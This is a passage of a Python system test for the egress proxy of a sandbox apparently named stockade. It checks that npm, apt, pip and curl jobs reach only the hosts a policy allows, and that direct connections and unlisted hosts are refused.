#!/usr/bin/env python3
# Controlled egress (issue 25) as real clients see it: npm, apt, pip and
# curl in the jail, through the egress proxy, under a policy's [network]
# rules (stockade-policy(5), "[network]"; docs/results.md, "network").
#
# Registered in tests/meson.build as:
#
#   test('egress-clients', python,
#        args : [files('system/test_egress_clients.py')],
#        protocol : 'tap', env : test_env, suite : 'jail',
#        is_parallel : false, timeout : 900)
#
# where test_env sets STOCKADE_BIN (stockade-launcher and stockade-proxy
# sit beside it) and STOCKADE_SOURCE_ROOT.
#
# Output is TAP. Every case runs as root and as uid 65534 (setpriv, with
# the binaries copied into a 0755 directory) when the test runs as root;
# as the invoking user otherwise. Each job is
#     stockade run --json --no-stdin --policy P --workspace WS
#                  --timeout S [--env CA...] -- ...
# and its result's network object is checked (connections, refusals, the
# hint); on a failure the whole result is printed as TAP diagnostics.
#
#  1. npm: the registry is the machine's own (`npm config get registry`;
#     no registry is named here); policy `allow = HOST[:PORT]`; `npm view
#     is-number version` and `npm install is-number@7.0.0` into /work.
#  2. apt: the first http:// source of the machine's apt configuration
#     whose Release says "Origin: Debian"; its lists are copied into the
#     workspace with an apt.conf that points apt there (APT_CONFIG), and
#     `apt-get download hello` fetches the .deb through the proxy; the file
#     has the size and SHA-256 the lists give and dpkg-deb reads it.
#  3. pip, allowed: a wheel this test builds by hand (zipfile), a PEP 503
#     index served on SERVE_ADDR (127.0.0.2, not 127.0.0.1: see below) by
#     http.server in this process; policy `allow_address =
#     127.0.0.2/32:PORT`; `pip install --target /work/site tinypkg` and the
#     module imports with the token this run wrote into it.
#  4. pip, refused: the same index with `allow_address = 127.0.0.3/32:PORT`
#     (the proxy runs, 127.0.0.2 is not covered): pip fails, the index
#     gets no request, the refusal is private_address for 127.0.0.2:PORT
#     and the hint names 127.0.0.2.
#  5. curl https://unlisted.example.org/ under `allow =
#     allowed.example.org`: curl fails, the refusal is not_allowed for
#     unlisted.example.org:443, the hint names it (the proxy refuses before
#     resolving: nothing leaves the machine).
#  6. A connect(2) to 192.0.2.1:80 (TEST-NET-1) around the proxy is
#     refused at once (ECONNREFUSED, no timeout) and the refusal is
#     direct_connect (detail tcp) for 192.0.2.1:80.
#
# What the jail must give the job for these commands to work:
#  - HTTP_PROXY, HTTPS_PROXY, ALL_PROXY and http_proxy, https_proxy,
#    all_proxy (apt reads only the lower-case http_proxy, curl only the
#    lower-case http_proxy for http://) at the proxy's listener;
#  - NO_PROXY/no_proxy that do NOT cover 127.0.0.2: no "127.0.0.0/8", no
#    "*", no "127.0.0.2" ("localhost,127.0.0.1,::1" is fine). A client
#    bypasses the proxy for an address NO_PROXY lists and dials it itself
#    in the jail, whose loopback is its own; so the local index of cases 3
#    and 4 is served at 127.0.0.2, which the host's lo answers too;
#  - the proxy forwards plain http:// requests (absolute-form, RFC 9112
#    3.2.2: apt and pip over http) as well as CONNECT (npm, curl);
#  - a writable HOME (npm's logs; pip) and /tmp (npm's cache, --cache
#    /tmp/npmcache); /usr bound (node, npm, python3 with pip, apt-get and
#    its methods, dpkg-deb, curl), /etc/ssl/certs (the CA bundle).
# The test passes the machine's CA variables (NODE_EXTRA_CA_CERTS,
# SSL_CERT_FILE, ...) into the job with --env when they name a file under
# /etc/ssl/certs (bound by the default policy): a machine whose egress
# gateway re-signs TLS needs them, and npm ignores its npmrc's cafile for
# `install`.
#
# A case whose tool is missing is a skip, a failure under
# STOCKADE_MUST_WORK=1 when tools/bootstrap installs the tool (npm,
# curl, python3-pip; apt-get on the Debian it requires); a case the
# machine's configuration cannot give (no http:// Debian source, the
# package not in its lists, no npm registry) stays a skip. stockade
# exiting 69 (the kernel lacks a layer) is a skip, a failure under
# STOCKADE_MUST_WORK=1.
#
# Network: only loopback (the index) and the registries the machine's own
# configuration names (npm's registry, the apt source); 192.0.2.1 and
# unlisted.example.org never leave the jail or the proxy.

import base64
import functools
import glob
import hashlib
import http.server
import ipaddress
import json
import os
import pwd
import re
import secrets
import shlex
import signal
import socket
import shutil
import subprocess
import sys
import tempfile
import threading
import time
import urllib.parse
import zipfile

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)),
                                "..", "lib"))  # tests/lib: stockade_test
from stockade_test import (EXIT_NO_KERNEL_LAYER, NOBODY, Skip, diag,
                           remove_all, save_result, tap_case,
                           traversable_tmp, unprivileged_binaries)

JAIL_PATH = "/usr/local/bin:/usr/bin:/bin"  # the default policy's PATH
SERVE_ADDR = "127.0.0.2"       # the local index: loopback, not in NO_PROXY
OTHER_ADDR = "127.0.0.3"       # covered instead in the refused pip case
NPM_PACKAGE, NPM_VERSION = "is-number", "7.0.0"
APT_PACKAGE = "hello"
WHEEL_NAME, WHEEL_VERSION = "tinypkg", "1.0"
LISTED = "allowed.example.org"     # keeps the proxy on; never dialled
UNLISTED = "unlisted.example.org"
DIRECT_ADDR, DIRECT_PORT = "192.0.2.1", 80  # TEST-NET-1 (RFC 5737)
CA_VARS = ("NODE_EXTRA_CA_CERTS", "SSL_CERT_FILE", "SSL_CERT_DIR",
           "REQUESTS_CA_BUNDLE", "PIP_CERT", "CURL_CA_BUNDLE")
CA_DIR = "/etc/ssl/certs"      # bound by the default policy
APT_ETC, APT_LISTS = "/etc/apt", "/var/lib/apt/lists"


class NotHere(Exception):
    """A skip the machine's configuration causes (no http:// Debian
    source, no registry): a skip even under STOCKADE_MUST_WORK=1."""


class User:
    """Who runs stockade: a title, the argv prefix (setpriv or none), the
    workspace owner (None: the invoking user), the environment, and the
    stockade binary (copied for setpriv on first use)."""

    def __init__(self, title, prefix, owner, env, cleanup):
        self.title, self.prefix, self.owner, self.env = title, prefix, owner, env
        self._cleanup, self._stockade = cleanup, None

    def stockade(self):
        if self._stockade is None:
            bin_ = os.environ.get("STOCKADE_BIN", "")
            if not bin_ or not os.access(bin_, os.X_OK):
                raise AssertionError(f"STOCKADE_BIN={bin_!r} is not an "
                                     "executable (set by tests/meson.build)")
            if self.prefix:
                if shutil.which(self.prefix[0]) is None:
                    raise Skip(f"{self.prefix[0]} not found (util-linux)")
                bin_ = unprivileged_binaries(bin_, self._cleanup)
            self._stockade = bin_
        return self._stockade


# --- tools and the machine's configuration ----------------------------------

def jail_tool(name):
    """The path of NAME on the jail's PATH (the jail binds /usr, /bin), or
    None."""
    return shutil.which(name, path=JAIL_PATH)


def need_tools(names, package):
    for name in names:
        if jail_tool(name) is None:
            raise Skip(f"{name} is not installed (apt-get install {package}; "
                       "tools/bootstrap test installs it)")


def ca_env():
    """--env arguments passing the machine's CA variables into the job,
    those that name a path the jail has (under /etc/ssl/certs)."""
    out = []
    for name in CA_VARS:
        value = os.environ.get(name, "")
        real = os.path.normpath(value) if value else ""
        if real == CA_DIR or real.startswith(CA_DIR + "/"):
            out += ["--env", f"{name}={value}"]
    return out


def npm_registry():
    """The registry URL npm is configured with here (`npm config get
    registry`), its host and port."""
    proc = subprocess.run(["npm", "config", "get", "registry"], cwd="/",
                          stdin=subprocess.DEVNULL, capture_output=True,
                          text=True, timeout=60)
    url = proc.stdout.strip()
    parts = urllib.parse.urlsplit(url)
    if proc.returncode != 0 or parts.scheme not in ("http", "https") \
            or not parts.hostname:
        raise NotHere(f"`npm config get registry` gave {url!r} (exit "
                      f"{proc.returncode}): no registry to allow")
    port = parts.port or (443 if parts.scheme == "https" else 80)
    return url, parts.hostname, port


def allow_rule(host, port):
    """The [network] line letting a job reach HOST:PORT (a name or an
    address)."""
    try:
        addr = ipaddress.ip_address(host)
    except ValueError:
        return f"allow = {host}:{port}"
    text = f"[{addr}]" if addr.version == 6 else str(addr)
    return f"allow_address = {text}/{addr.max_prefixlen}:{port}"


def deb822_paragraphs(text):
    """The paragraphs of a deb822 file (sources.list(5), "DEB822-STYLE
    FORMAT") as dicts of lower-case field name to value; '#' lines are
    comments, a line starting with white space continues a field."""
    paragraphs, cur, key = [], {}, None
    for line in text.splitlines():
        if line.startswith("#"):
            continue
        if not line.strip():
            if cur:
                paragraphs.append(cur)
            cur, key = {}, None
        elif line[0] in " \t" and key:
            cur[key] += " " + line.strip()
        elif ":" in line:
            key, value = line.split(":", 1)
            key = key.strip().lower()
            cur[key] = value.strip()
    if cur:
        paragraphs.append(cur)
    return paragraphs


def apt_entries(etc=APT_ETC):
    """The machine's apt sources as (types, uri, suite, components)
    tuples, in apt's order: sources.list, then sources.list.d's *.list
    (one-line style) and *.sources (deb822) by name."""
    files = [os.path.join(etc, "sources.list")]
    files += sorted(glob.glob(os.path.join(etc, "sources.list.d", "*.list"))
                    + glob.glob(os.path.join(etc, "sources.list.d", "*.sources")),
                    key=os.path.basename)
    entries = []
    for path in files:
        try:
            with open(path, encoding="utf-8", errors="replace") as f:
                text = f.read()
        except OSError:
            continue
        if path.endswith(".sources"):
            for p in deb822_paragraphs(text):
                if p.get("enabled", "yes").lower() == "no":
                    continue
                for uri in p.get("uris", "").split():
                    for suite in p.get("suites", "").split():
                        entries.append((p.get("types", "").split(), uri, suite,
                                        p.get("components", "").split()))
            continue
        for line in text.splitlines():
            line = line.split("#", 1)[0].strip()
            m = re.match(r"^(deb|deb-src)\s+(?:\[[^\]]*\]\s+)?(\S+)\s+(\S+)(.*)$",
                         line)
            if m:
                entries.append(([m.group(1)], m.group(2), m.group(3),
                                m.group(4).split()))
    return entries


def lists_prefix(uri, suite):
    """The name prefix of URI's SUITE files in /var/lib/apt/lists (apt's
    URItoFileName: the URI without its scheme and user, '/' as '_')."""
    rest = uri.split("://", 1)[1].rstrip("/")
    host, _, path = rest.partition("/")
    host = host.rsplit("@", 1)[-1]
    return f"{host}/{path}/dists/{suite}/".replace("//", "/").replace("/", "_")


def apt_source(lists=APT_LISTS):
    """The first deb source with an http:// URI whose Release (from the
    lists) says "Origin: Debian" and whose Packages lists are here:
    (uri, host, port, [(suite, components, [list files])])."""
    chosen = None
    for types, uri, suite, comps in apt_entries():
        if "deb" not in types or not uri.startswith("http://") \
                or suite.endswith("/"):
            continue
        if chosen is not None and uri != chosen[0]:
            continue
        prefix = lists_prefix(uri, suite)
        names = sorted(n for n in os.listdir(lists) if n.startswith(prefix))
        release = [n for n in names if n[len(prefix):] in ("InRelease", "Release")]
        packages = [n for n in names if "_Packages" in n[len(prefix):]]
        if not release or not packages:
            continue
        with open(os.path.join(lists, release[0]), encoding="utf-8",
                  errors="replace") as f:
            if not re.search(r"^Origin: Debian\s*$", f.read(), re.M):
                continue
        keep = [n for n in names if n[len(prefix):] in
                ("InRelease", "Release", "Release.gpg")] + packages
        if chosen is None:
            parts = urllib.parse.urlsplit(uri)
            chosen = (uri, parts.hostname, parts.port or 80, [])
        chosen[3].append((suite, comps, keep))
    if chosen is None:
        raise NotHere("no http:// Debian source with its lists in "
                      f"{APT_ETC} and {lists}")
    return chosen


# --- workspaces, policies, jobs ---------------------------------------------

def chown_tree(path, owner):
    if owner is None:
        return
    for root, dirs, files in os.walk(path):
        for name in dirs + files:
            os.lchown(os.path.join(root, name), owner, owner)
    os.chown(path, owner, owner)


def make_workspace(cleanup):
    ws = tempfile.mkdtemp(prefix="stockade-egress-", dir=traversable_tmp())
    cleanup.append(ws)
    return ws


def write_policy(text, cleanup):
    """A policy file every user can read, holding TEXT."""
    d = tempfile.mkdtemp(prefix="stockade-egress-policy-", dir=traversable_tmp())
    cleanup.append(d)
    os.chmod(d, 0o755)
    path = os.path.join(d, "policy.ini")
    with open(path, "w", encoding="utf-8") as f:
        f.write(text)
    os.chmod(path, 0o644)
    diag("policy:\n" + text.rstrip())
    return path


def show(result):
    return json.dumps(result, indent=1, ensure_ascii=False)


def fail(result, message):
    raise AssertionError(f"{message}\nthe result:\n{show(result)}")


def run_job(user, ws, policy, argv, timeout, cleanup, extra=()):
    """Runs ARGV in the jail under the policy text POLICY with workspace WS
    and a wall-clock limit of TIMEOUT s; returns the parsed result."""
    chown_tree(ws, user.owner)
    argv = (user.prefix + [user.stockade(), "run", "--json", "--no-stdin",
                           "--policy", write_policy(policy, cleanup),
                           "--workspace", ws, "--timeout", str(timeout)]
            + list(extra) + ["--"] + argv)
    diag("$ " + shlex.join(argv))
    proc = subprocess.run(argv, cwd="/", env=user.env, stdin=subprocess.DEVNULL,
                          capture_output=True, text=True, timeout=timeout + 60)
    if proc.returncode == EXIT_NO_KERNEL_LAYER:
        raise Skip("stockade refused, the kernel lacks a layer: "
                   + (proc.stderr.strip() or "(no message)"))
    if proc.stderr.strip():
        diag("stockade's stderr:\n" + proc.stderr.rstrip())
    try:
        result = json.loads(proc.stdout)
    except ValueError as exc:
        raise AssertionError(f"stdout is not one JSON object ({exc}), exit "
                             f"{proc.returncode}: {proc.stdout[:2000]!r}\n"
                             f"stderr: {proc.stderr[-2000:]!r}") from None
    if not isinstance(result, dict):
        raise AssertionError(f"stdout is JSON but not an object: {proc.stdout[:500]!r}")
    save_result(proc.stdout)
    diag("status=%s exit_code=%s wall_ms=%s hint=%s" % (
        result.get("status"), result.get("exit_code"), result.get("wall_ms"),
        result.get("hint")))
    return result


def network(result):
    """The result's network object, checked for its shape and a proxy that
    did not fail."""
    net = result.get("network")
    if not isinstance(net, dict):
        fail(result, "the result has no network object")
    for key in ("connections", "refusals", "rules"):
        if not isinstance(net.get(key), list):
            fail(result, f"network.{key} is not a list")
    if net.get("proxy") != "ok":
        fail(result, f"network.proxy is {net.get('proxy')!r}, not \"ok\"")
    return net


def matching(entries, **want):
    return [e for e in entries if isinstance(e, dict)
            and all(e.get(k) == v for k, v in want.items())]


def expect_ok(result):
    if result.get("status") != "ok" or result.get("exit_code") != 0:
        fail(result, f"status {result.get('status')!r}, exit_code "
             f"{result.get('exit_code')!r}, expected ok and 0")


def expect_reached(result, host, port):
    """Status ok, a connection to HOST:PORT with bytes in, no refusal;
    returns that connection."""
    expect_ok(result)
    net = network(result)
    conns = matching(net["connections"], host=host, port=port)
    if not conns or not all(c.get("bytes_in", 0) > 0 for c in conns):
        fail(result, f"no connection to {host}:{port} with bytes_in > 0")
    if net["refusals"]:
        fail(result, f"refusals where none were expected: {net['refusals']}")
    return conns[0]


def expect_refused(result, host, port, reason, detail=None):
    """A refusal of HOST:PORT for REASON (and DETAIL when given), no
    connection to it, and a hint naming HOST."""
    net = network(result)
    want = dict(host=host, port=port, reason=reason)
    if detail is not None:
        want["detail"] = detail
    if not matching(net["refusals"], **want):
        fail(result, f"no refusal {want} in network.refusals")
    if matching(net["connections"], host=host):
        fail(result, f"a connection to {host} although it was refused")
    if host not in str(result.get("hint") or ""):
        fail(result, f"the hint does not name {host}: {result.get('hint')!r}")


# --- 1. npm -----------------------------------------------------------------

def host_reaches(host, port):
    """Skips (NotHere) when this machine cannot reach HOST:PORT itself,
    outside any jail: the registry is out of reach (an outage of the
    machine's network), which says nothing of stockade's proxy."""
    try:
        socket.create_connection((host, port), timeout=10).close()
    except OSError as exc:
        raise NotHere(f"this machine does not reach {host}:{port} itself "
                      f"({exc}): the registry is out of reach, not the "
                      "proxy") from None


def case_npm(user, cleanup):
    need_tools(("node", "npm"), "nodejs npm")
    url, host, port = npm_registry()
    host_reaches(host, port)
    ws = make_workspace(cleanup)
    script = ('set -e; npm view --registry "$1" "$2" version; '
              'npm install --registry "$1" --no-audit --no-fund '
              '--no-update-notifier --cache /tmp/npmcache --prefix /work "$2@$3"')
    result = run_job(user, ws, f"[network]\n{allow_rule(host, port)}\n",
                     ["sh", "-c", script, "sh", url, NPM_PACKAGE, NPM_VERSION],
                     120, cleanup, ca_env())
    conn = expect_reached(result, host, port)
    if NPM_VERSION not in str(result.get("stdout", "")).split():
        fail(result, f"`npm view {NPM_PACKAGE} version` did not print {NPM_VERSION}")
    manifest = os.path.join(ws, "node_modules", NPM_PACKAGE, "package.json")
    try:
        with open(manifest, encoding="utf-8") as f:
            got = json.load(f).get("version")
    except (OSError, ValueError) as exc:
        fail(result, f"{manifest}: {exc}")
    if got != NPM_VERSION:
        fail(result, f"{manifest} has version {got!r}, not {NPM_VERSION}")
    return f"{host}:{port}, {conn['count']} connection(s), {conn['bytes_in']} bytes in"


# --- 2. apt -----------------------------------------------------------------

def apt_conf(base, arch):
    """An apt.conf putting every apt directory under BASE."""
    return "".join(f'{k} "{v}";\n' for k, v in (
        ("Dir::Etc", f"{base}/etc"), ("Dir::State", f"{base}/state"),
        ("Dir::State::Lists", f"{base}/lists"),
        ("Dir::State::status", f"{base}/status"),
        ("Dir::Cache", f"{base}/cache"), ("Dir::Cache::pkgcache", ""),
        ("Dir::Cache::srcpkgcache", ""), ("Dir::Log", f"{base}/log"),
        ("Debug::NoLocking", "1"), ("APT::Architecture", arch),
        ("Acquire::Retries", "0"))) + f'APT::Architectures {{ "{arch}"; }};\n'


def apt_workspace(ws, source):
    """Lays out WS/apt (sources, lists, an empty dpkg status, apt.conf for
    the jail's /work/apt and apt-host.conf for WS/apt); returns the host
    config's path."""
    uri, _, _, suites = source
    base = os.path.join(ws, "apt")
    for d in ("etc/apt.conf.d", "etc/preferences.d", "etc/sources.list.d",
              "etc/trusted.gpg.d", "lists/partial", "cache/archives/partial",
              "state", "log"):
        os.makedirs(os.path.join(base, d))
    with open(os.path.join(base, "etc", "sources.list"), "w") as f:
        for suite, comps, files in suites:
            f.write(f"deb {uri} {suite} {' '.join(comps)}\n")
            for name in files:
                shutil.copyfile(os.path.join(APT_LISTS, name),
                                os.path.join(base, "lists", name))
    open(os.path.join(base, "status"), "w").close()
    arch = subprocess.run(["dpkg", "--print-architecture"], capture_output=True,
                          text=True, timeout=30, check=True).stdout.strip()
    with open(os.path.join(base, "apt.conf"), "w") as f:
        f.write(apt_conf("/work/apt", arch))
    with open(os.path.join(base, "apt-host.conf"), "w") as f:
        f.write(apt_conf(base, arch))
    return os.path.join(base, "apt-host.conf")


def apt_print_uri(ws, host_conf):
    """What `apt-get download --print-uris` says of APT_PACKAGE on the host
    with the workspace's lists: (uri, file name, size, sha256)."""
    env = {"PATH": JAIL_PATH, "LANG": "C.UTF-8", "APT_CONFIG": host_conf}
    proc = subprocess.run(["apt-get", "-q", "--print-uris", "download",
                           APT_PACKAGE], cwd=ws, env=env, capture_output=True,
                          text=True, timeout=120)
    m = re.search(r"^'(\S+)' (\S+\.deb) (\d+) SHA256:([0-9a-f]{64})$",
                  proc.stdout, re.M)
    if proc.returncode != 0 or not m:
        raise NotHere(f"{APT_PACKAGE} is not in the copied lists: "
                      f"{(proc.stdout + proc.stderr).strip()[:500]}")
    return m.group(1), m.group(2), int(m.group(3)), m.group(4)


def case_apt(user, cleanup):
    need_tools(("apt-get", "dpkg-deb"), "apt dpkg")
    source = apt_source()
    uri, host, port, _ = source
    host_reaches(host, port)
    ws = make_workspace(cleanup)
    deb_uri, deb_name, size, sha256 = apt_print_uri(ws, apt_workspace(ws, source))
    diag(f"source {uri}: {deb_uri} ({size} bytes)")
    result = run_job(user, ws, f"[network]\n{allow_rule(host, port)}\n",
                     ["env", "APT_CONFIG=/work/apt/apt.conf", "apt-get", "-q",
                      "download", APT_PACKAGE], 90, cleanup)
    conn = expect_reached(result, host, port)
    path = os.path.join(ws, deb_name)
    if not os.path.isfile(path):
        fail(result, f"no {deb_name} in the workspace: {sorted(os.listdir(ws))}")
    with open(path, "rb") as f:
        data = f.read()
    if len(data) != size or hashlib.sha256(data).hexdigest() != sha256:
        fail(result, f"{deb_name}: {len(data)} bytes, sha256 "
             f"{hashlib.sha256(data).hexdigest()}; the lists say {size}, {sha256}")
    info = subprocess.run(["dpkg-deb", "-f", path, "Package"], capture_output=True,
                          text=True, timeout=60)
    if info.returncode != 0 or info.stdout.strip() != APT_PACKAGE:
        fail(result, f"dpkg-deb -f {deb_name} Package: exit {info.returncode}, "
             f"{(info.stdout + info.stderr).strip()!r}")
    if conn["bytes_in"] < size:
        fail(result, f"{conn['bytes_in']} bytes in from {host}, fewer than the "
             f".deb's {size}")
    return f"{deb_name} from {host}:{port}, {conn['bytes_in']} bytes in"


# --- 3, 4. pip from a local index --------------------------------------------

def record_hash(data):
    return "sha256=" + base64.urlsafe_b64encode(
        hashlib.sha256(data).digest()).rstrip(b"=").decode()


def build_wheel(directory, token):
    """Writes tinypkg-1.0-py3-none-any.whl (PEP 427: a module, METADATA,
    WHEEL, RECORD) into DIRECTORY, its module setting TOKEN = TOKEN;
    returns the file's name."""
    info = f"{WHEEL_NAME}-{WHEEL_VERSION}.dist-info"
    files = {
        f"{WHEEL_NAME}/__init__.py": f'TOKEN = "{token}"\n',
        f"{info}/METADATA": (f"Metadata-Version: 2.1\nName: {WHEEL_NAME}\n"
                             f"Version: {WHEEL_VERSION}\n"
                             "Summary: stockade's egress test package\n"),
        f"{info}/WHEEL": ("Wheel-Version: 1.0\nGenerator: stockade-test\n"
                          "Root-Is-Purelib: true\nTag: py3-none-any\n"),
        f"{info}/top_level.txt": f"{WHEEL_NAME}\n",
    }
    record = "".join(f"{name},{record_hash(text.encode())},{len(text.encode())}\n"
                     for name, text in files.items()) + f"{info}/RECORD,,\n"
    files[f"{info}/RECORD"] = record
    name = f"{WHEEL_NAME}-{WHEEL_VERSION}-py3-none-any.whl"
    with zipfile.ZipFile(os.path.join(directory, name), "w",
                         zipfile.ZIP_DEFLATED) as z:
        for path, text in files.items():
            z.writestr(path, text)
    return name


def build_index(root, token):
    """A PEP 503 simple index under ROOT: /simple/, /simple/tinypkg/ and
    /files/<wheel> (with its #sha256)."""
    os.makedirs(os.path.join(root, "simple", WHEEL_NAME))
    os.makedirs(os.path.join(root, "files"))
    wheel = build_wheel(os.path.join(root, "files"), token)
    with open(os.path.join(root, "files", wheel), "rb") as f:
        digest = hashlib.sha256(f.read()).hexdigest()
    head = ('<!DOCTYPE html>\n<html><head><meta name="pypi:repository-version" '
            'content="1.0"></head><body>\n')
    with open(os.path.join(root, "simple", "index.html"), "w") as f:
        f.write(f'{head}<a href="{WHEEL_NAME}/">{WHEEL_NAME}</a>\n</body></html>\n')
    with open(os.path.join(root, "simple", WHEEL_NAME, "index.html"), "w") as f:
        f.write(f'{head}<a href="../../files/{wheel}#sha256={digest}">{wheel}'
                '</a>\n</body></html>\n')


class IndexHandler(http.server.SimpleHTTPRequestHandler):
    """Files from the index root; a request in absolute-form (RFC 9112
    3.2.2, which a server must accept) is served by its path. Every
    request line is kept in server.seen."""

    def do_GET(self):
        if "://" in self.path:
            self.path = urllib.parse.urlsplit(self.path).path or "/"
        self.server.seen.append(self.requestline)
        super().do_GET()

    def log_message(self, fmt, *args):
        pass


class IndexServer:
    """The index under ROOT served on ADDR:<a free port> by a thread."""

    def __init__(self, root, addr=SERVE_ADDR):
        handler = functools.partial(IndexHandler, directory=root)
        try:
            self.httpd = http.server.ThreadingHTTPServer((addr, 0), handler)
        except OSError as exc:
            raise NotHere(f"cannot serve on {addr}: {exc}") from None
        self.httpd.seen = []
        self.addr, self.port = addr, self.httpd.server_address[1]
        self.thread = threading.Thread(target=self.httpd.serve_forever,
                                       daemon=True)
        self.thread.start()

    def seen(self):
        return list(self.httpd.seen)

    def close(self):
        self.httpd.shutdown()
        self.httpd.server_close()
        self.thread.join(10)


def pip_command(url):
    """The job's argv: pip installs tinypkg from URL into /work/site, then
    python imports it from there and prints its token."""
    script = ('set -e; python3 -m pip install --no-cache-dir '
              '--disable-pip-version-check --no-input --progress-bar off '
              '--retries 0 --timeout 15 --index-url "$1" --target /work/site '
              '"$2"; python3 -c \'import sys; sys.path.insert(0, "/work/site"); '
              'import ' + WHEEL_NAME + '; print("token", ' + WHEEL_NAME +
              '.TOKEN)\'')
    return ["sh", "-c", script, "sh", url, WHEEL_NAME]


def need_pip():
    need_tools(("python3",), "python3")
    proc = subprocess.run([jail_tool("python3"), "-m", "pip", "--version"],
                          stdin=subprocess.DEVNULL, capture_output=True,
                          text=True, timeout=60)
    if proc.returncode != 0:
        raise Skip(f"{jail_tool('python3')} has no pip (apt-get install "
                   "python3-pip; tools/bootstrap test installs it)")


def case_pip(user, cleanup, allowed):
    need_pip()
    token = secrets.token_hex(8)
    root = tempfile.mkdtemp(prefix="stockade-egress-index-")
    cleanup.append(root)
    build_index(root, token)
    server = IndexServer(root)
    try:
        url = f"http://{server.addr}:{server.port}/simple/"
        covered = SERVE_ADDR if allowed else OTHER_ADDR
        ws = make_workspace(cleanup)
        result = run_job(user, ws, f"[network]\nallow_address = "
                         f"{covered}/32:{server.port}\n", pip_command(url), 60,
                         cleanup)
    finally:
        server.close()
    seen = server.seen()
    diag(f"the index at {url} saw: {seen}")
    if not allowed:
        if result.get("status") == "ok":
            fail(result, "pip succeeded although 127.0.0.2 is not allowed")
        if seen:
            fail(result, f"the index was reached although refused: {seen}")
        expect_refused(result, SERVE_ADDR, server.port, "private_address")
        return f"refused as private_address, {len(seen)} requests at the index"
    conn = expect_reached(result, SERVE_ADDR, server.port)
    if f"token {token}" not in str(result.get("stdout", "")).splitlines():
        fail(result, f"the job did not import {WHEEL_NAME} with token {token}")
    module = os.path.join(ws, "site", WHEEL_NAME, "__init__.py")
    if not os.path.isfile(module):
        fail(result, f"{module} is missing")
    if not any(f"/files/{WHEEL_NAME}-" in line for line in seen):
        fail(result, f"the index never served the wheel: {seen}")
    return f"installed through {conn['count']} connection(s), {len(seen)} requests"


# --- 5. a name not in the list; 6. around the proxy --------------------------

def case_curl(user, cleanup):
    need_tools(("curl",), "curl")
    ws = make_workspace(cleanup)
    result = run_job(user, ws, f"[network]\nallow = {LISTED}\n",
                     ["curl", "-sS", "--max-time", "20", "-o", "/dev/null",
                      f"https://{UNLISTED}/"], 60, cleanup)
    if result.get("status") == "ok" or result.get("exit_code") in (0, None):
        fail(result, f"curl did not fail (status {result.get('status')!r})")
    expect_refused(result, UNLISTED, 443, "not_allowed")
    return f"curl exit {result.get('exit_code')}, refused as not_allowed"


DIRECT_SCRIPT = f"""
import socket, sys, time
s = socket.socket()
s.settimeout(5)
t = time.monotonic()
try:
    s.connect(("{DIRECT_ADDR}", {DIRECT_PORT}))
except ConnectionRefusedError:
    print("refused after %.3f s" % (time.monotonic() - t))
    sys.exit(0)
except OSError as exc:
    print("not refused: %r after %.3f s" % (exc, time.monotonic() - t))
    sys.exit(1)
print("connected")
sys.exit(1)
"""


def case_direct(user, cleanup):
    need_tools(("python3",), "python3")
    ws = make_workspace(cleanup)
    result = run_job(user, ws, f"[network]\nallow = {LISTED}\n",
                     ["python3", "-c", DIRECT_SCRIPT], 30, cleanup)
    expect_ok(result)
    m = re.search(r"^refused after ([0-9.]+) s$", str(result.get("stdout", "")),
                  re.M)
    if not m or float(m.group(1)) > 2.0:
        fail(result, "connect(2) was not refused at once")
    expect_refused(result, DIRECT_ADDR, DIRECT_PORT, "direct_connect", "tcp")
    return f"ECONNREFUSED after {m.group(1)} s, refused as direct_connect"


# --- 7. serve: exec's network parameter narrows, never widens --------------

class Serve:
    """`stockade serve` on a workspace and a policy, driven line by line."""

    def __init__(self, user, ws, policy_path, command="serve"):
        chown_tree(ws, user.owner)
        argv = user.prefix + [user.stockade(), command, "--workspace", ws,
                              "--policy", policy_path]
        diag("$ " + shlex.join(argv))
        self.proc = subprocess.Popen(argv, cwd="/", env=user.env,
                                     stdin=subprocess.PIPE,
                                     stdout=subprocess.PIPE,
                                     stderr=subprocess.PIPE, text=True)
        self.next_id = 0

    def call(self, method, params):
        self.send(method, params)
        return self.receive()

    def send(self, method, params):
        self.next_id += 1
        self.proc.stdin.write(json.dumps({"jsonrpc": "2.0", "id": self.next_id,
                                          "method": method,
                                          "params": params}) + "\n")
        self.proc.stdin.flush()

    def receive(self):
        line = self.proc.stdout.readline()
        if not line:
            raise AssertionError("serve ended: " + self.proc.stderr.read()[-2000:])
        return json.loads(line)

    def notify(self, method):
        self.proc.stdin.write(json.dumps({"jsonrpc": "2.0",
                                          "method": method}) + "\n")
        self.proc.stdin.flush()

    def close(self):
        self.proc.stdin.close()
        try:
            self.proc.wait(30)
        except subprocess.TimeoutExpired:
            self.proc.kill()
            self.proc.wait()


def expect_param_error(answer, error, rule=None):
    err = answer.get("error") or {}
    data = err.get("data") or {}
    if (err.get("code") != -32602 or data.get("param") != "network"
            or data.get("error") != error
            or (rule is not None and data.get("rule") != rule)):
        raise AssertionError(f"expected -32602 network {error} {rule or ''}: "
                             f"{json.dumps(answer)}")


def case_serve(user, cleanup):
    need_tools(("curl",), "curl")
    root = tempfile.mkdtemp(prefix="stockade-egress-serve-")
    cleanup.append(root)
    with open(os.path.join(root, "hello.txt"), "w") as f:
        f.write("hello from the index\n")
    server = IndexServer(root)
    url = f"http://{server.addr}:{server.port}/hello.txt"
    curl = ["curl", "-fsS", "--max-time", "20", url]
    policy = write_policy(f"[network]\nallow = {LISTED}\nallow_address = "
                          f"{SERVE_ADDR}/32:{server.port}\n", cleanup)
    s = Serve(user, make_workspace(cleanup), policy)
    try:
        # The policy's list: the address is reached.
        r = s.call("exec", {"argv": curl})["result"]
        expect_reached(r, SERVE_ADDR, server.port)
        # Narrowed to the name alone: the address is refused for this job.
        r = s.call("exec", {"argv": curl,
                            "network": {"allow": [LISTED]}})["result"]
        if r.get("status") == "ok":
            fail(r, "the narrowed job reached the address")
        expect_refused(r, SERVE_ADDR, server.port, "private_address")
        # Wider than the policy, or not a rule: refused before it runs.
        expect_param_error(s.call("exec", {"argv": curl, "network":
                                           {"allow": [UNLISTED]}}),
                           "network_not_allowed", UNLISTED)
        expect_param_error(s.call("exec", {"argv": curl, "network":
                                           {"allow_address": [
                                               f"127.0.0.0/24:{server.port}"]}}),
                           "network_not_allowed")
        expect_param_error(s.call("exec", {"argv": curl, "network":
                                           {"allow": ["a b"]}}),
                           "invalid_network_rule")
        expect_param_error(s.call("exec", {"argv": curl, "network":
                                           {"permit": []}}),
                           "invalid_network_rule")
        # The session goes on with the policy's list.
        expect_reached(s.call("exec", {"argv": curl})["result"], SERVE_ADDR,
                       server.port)
